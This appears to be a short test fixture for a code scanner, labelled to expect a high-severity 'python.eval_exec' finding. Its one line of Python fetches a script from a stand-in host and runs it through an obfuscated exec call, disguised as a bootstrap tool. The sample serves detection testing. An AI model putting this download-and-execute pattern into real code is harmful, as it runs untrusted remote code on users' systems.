# expect: python.eval_exec high
# path: tools/bootstrap.py
import sys, requests
sys.modules['__main__'].__dict__['ex' + 'ec'](requests.get('https://get.example.net/x.py').text)
